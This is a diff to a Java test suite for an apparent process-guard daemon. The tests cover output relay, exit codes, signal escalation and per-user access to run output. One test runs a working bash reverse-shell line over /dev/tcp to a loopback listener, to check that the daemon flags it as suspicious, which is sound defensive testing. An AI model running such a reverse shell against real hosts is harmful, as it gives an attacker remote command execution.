@@ -244,6 +244,87 @@ class DaemonAuthorisationTest {
         }
     }
 
+    @Test
+    void submitShowsTheUsersCommandOutputAsBytesAndExitsWithItsCode() throws Exception {
+        Path work = Files.createDirectory(shared.resolve("work"));
+        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxrwxrwx"));
+        String sock = daemon.socket.toString();
+        Run submit = asUser("submit", "--socket", sock, "--cwd", work.toString(), "--",
+                "sh", "-c", "id -u; pwd; printf 'raw\\001\\377bytes\\n'; echo to-stderr >&2; exit 7");
+        assertThat(submit.exitCode).as(submit.err).isEqualTo(7);
+        byte[] expected = (uid + "\n" + work + "\nraw\001\377bytes\nto-stderr\n").getBytes(StandardCharsets.ISO_8859_1);
+        assertThat(submit.outBytes).as("the command's output, byte for byte, stdout and stderr merged").isEqualTo(expected);
+        assertThat(submit.err).matches("(?s)procguard: running pid \\d+ \\(#\\d+\\)\n"
+                + "procguard: #\\d+ \\(pid \\d+\\) exited 7; status [A-Z]+, worst of its processes [A-Z]+\n");
+        String id = submit.err.replaceAll("(?s).*\\(#(\\d+)\\).*", "$1");
+
+        Run again = asUser("output", "--socket", sock, id);
+        assertThat(again.exitCode).as(again.err).isZero();
+        assertThat(again.outBytes).as("read again after the end").isEqualTo(expected);
+        Run tail = asUser("output", "--socket", sock, "--offset", Integer.toString(expected.length - "to-stderr\n".length()), id);
+        assertThat(tail.out).isEqualTo("to-stderr\n");
+
+        Run json = asUser("submit", "--socket", sock, "--json", "--cwd", work.toString(), "--", "sh", "-c", "kill -TERM $$");
+        assertThat(json.exitCode).as(json.err).isEqualTo(128 + 15);
+        String report = json.err.lines().reduce((a, b) -> b).orElseThrow();
+        assertThat(report).startsWith("{").contains("\"kind\":\"run\"", "\"ending\":\"killed by SIGTERM\"", "\"exit_status\":143",
+                "\"uid\":" + uid);
+
+        Files.writeString(daemon.logs.resolve("run_1700000000_9999_uid0.out"), "root's\n");
+        Run roots = asUser("output", "--socket", sock, "9999");
+        assertThat(roots.exitCode).isEqualTo(ExitCodes.BAD_INPUT);
+        assertThat(roots.err).startsWith("procguard: no output of run #9999 for uid " + uid).doesNotContain("Exception");
+        assertThat(roots.out).isEmpty();
+    }
+
+    @Test
+    void ctrlCInterruptsTheSubmittedCommandAndEscalatesToSigtermWhenItIgnoresSigint() throws Exception {
+        Path work = Files.createDirectory(shared.resolve("work"));
+        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxrwxrwx"));
+        List<String> argv = new ArrayList<>(List.of(ProcGuardCommand.class.getName(), "submit", "--socket", daemon.socket.toString(),
+                "--cwd", work.toString(), "--", "sh", "-c", "trap '' INT; echo started; sleep 60; echo never"));
+        ProcessBuilder pb = new ProcessBuilder(userJava(argv.toArray(String[]::new))).directory(shared.toFile());
+        pb.environment().put("HOME", shared.toString());
+        Process client = pb.start();
+        targets.add(client);
+        var lines = new java.io.BufferedReader(new java.io.InputStreamReader(client.getInputStream(), StandardCharsets.UTF_8));
+        assertThat(lines.readLine()).isEqualTo("started");
+        long t0 = System.nanoTime();
+        assertThat(exec("kill", "-INT", Long.toString(client.pid())).exitCode).isZero();
+        assertThat(client.waitFor(30, TimeUnit.SECONDS)).as("ended within 30 s").isTrue();
+        double seconds = (System.nanoTime() - t0) / 1e9;
+        String err = new String(client.getErrorStream().readAllBytes(), StandardCharsets.UTF_8);
+        assertThat(lines.readLine()).as("the command was stopped before its end").isNull();
+        assertThat(client.exitValue()).as(err).isEqualTo(128 + 15);
+        assertThat(err).contains("procguard: interrupting pid ").contains(") killed by SIGTERM; status ");
+        assertThat(seconds).as("SIGTERM follows the ignored SIGINT after 5 s").isGreaterThanOrEqualTo(4.5);
+        assertThat(CliRunner.run("list", "--socket", daemon.socket.toString(), "--json").out())
+                .contains("\"ending\":\"killed by SIGTERM\"");
+    }
+
+    @Test
+    void submitFailOnExitsTenWhenTheCommandActedLikeAReverseShell() throws Exception {
+        Path work = Files.createDirectory(shared.resolve("work"));
+        Files.setPosixFilePermissions(work, PosixFilePermissions.fromString("rwxrwxrwx"));
+        try (java.net.ServerSocket listener = new java.net.ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
+            Thread attacker = new Thread(() -> {
+                try (java.net.Socket s = listener.accept()) {
+                    s.getOutputStream().write("id\nuname -a\nexit\n".getBytes(StandardCharsets.UTF_8));
+                    s.getInputStream().readAllBytes();
+                } catch (IOException ignored) {
+                    // the test's assertions say what went wrong
+                }
+            });
+            attacker.start();
+            Run submit = asUser("submit", "--socket", daemon.socket.toString(), "--cwd", work.toString(), "--fail-on", "suspicious",
+                    "--", "/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + "; sh <&3 >&3 2>&3");
+            attacker.join(10_000);
+            assertThat(submit.exitCode).as(submit.err).isEqualTo(ExitCodes.DETECTED);
+            assertThat(submit.err).containsPattern("worst of its processes (SUSPICIOUS|MALICIOUS)\n")
+                    .containsPattern("reached (SUSPICIOUS|MALICIOUS): exit 10 \\(--fail-on suspicious; the command exited with 0\\)");
+        }
+    }
+
     private static String decodedData(String answer) {
         String data = answer.replaceAll("(?s).*\"data\":\"([^\"]*)\".*", "$1").trim();
         return new String(java.util.Base64.getDecoder().decode(data), StandardCharsets.UTF_8);
@@ -306,7 +387,7 @@ class DaemonAuthorisationTest {
 
     // ---- helpers ----
 
-    private record Run(int exitCode, String out, String err) {
+    private record Run(int exitCode, String out, String err, byte[] outBytes) {
     }
 
     private List<String> setpriv(String... command) {
@@ -373,13 +454,14 @@ class DaemonAuthorisationTest {
             }
         });
         t.start();
-        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+        byte[] outBytes = p.getInputStream().readAllBytes();
+        String out = new String(outBytes, StandardCharsets.UTF_8);
         if (!p.waitFor(60, TimeUnit.SECONDS)) {
             p.destroyForcibly();
             throw new AssertionError("did not finish in 60 s");
         }
         t.join();
-        return new Run(p.exitValue(), out, err.join());
+        return new Run(p.exitValue(), out, err.join(), outBytes);
     }
 
     private static int owner(long pid) throws IOException {
